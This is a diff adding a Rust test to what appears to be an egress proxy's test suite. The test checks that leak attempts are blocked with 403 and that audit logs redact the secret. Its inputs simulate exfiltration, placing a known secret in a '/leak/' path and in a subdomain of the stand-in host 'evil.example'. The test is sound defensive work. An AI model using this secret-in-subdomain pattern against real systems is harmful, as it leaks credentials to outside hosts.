@@ -282,3 +282,35 @@ async fn detectors_follow_the_route() {
         reply.body_text()
     );
 }
+
+#[tokio::test]
+async fn audit_log_never_records_a_secret() {
+    let fixture = Fixture::new().await;
+    let mut limited = route(&fixture, OnMatch::Block);
+    limited.matches = vec![common::prefix_rule("/api/", &["GET"])];
+    let proxy = fixture.start_proxy(vec![limited]).await;
+
+    // Refused by the path rule before the DLP runs, and by default deny at CONNECT.
+    let path = format!("/leak/{KNOWN_SECRET}");
+    let reply = send(&fixture, proxy, post(&path, &[], "")).await;
+    assert_eq!(reply.status, 403);
+    let (reply, _) = fixture
+        .connect(proxy, &format!("{KNOWN_SECRET}.evil.example:443"))
+        .await;
+    assert_eq!(reply.status, 403);
+
+    let records = fixture.audit_records();
+    assert!(
+        records
+            .iter()
+            .any(|r| r["path"] == "/leak/[REDACTED:known-secret]"),
+        "{records:#?}"
+    );
+    assert!(
+        records
+            .iter()
+            .any(|r| r["host"] == "[REDACTED:known-secret].evil.example"),
+        "{records:#?}"
+    );
+    assert!(!fixture.audit_text().contains(KNOWN_SECRET));
+}
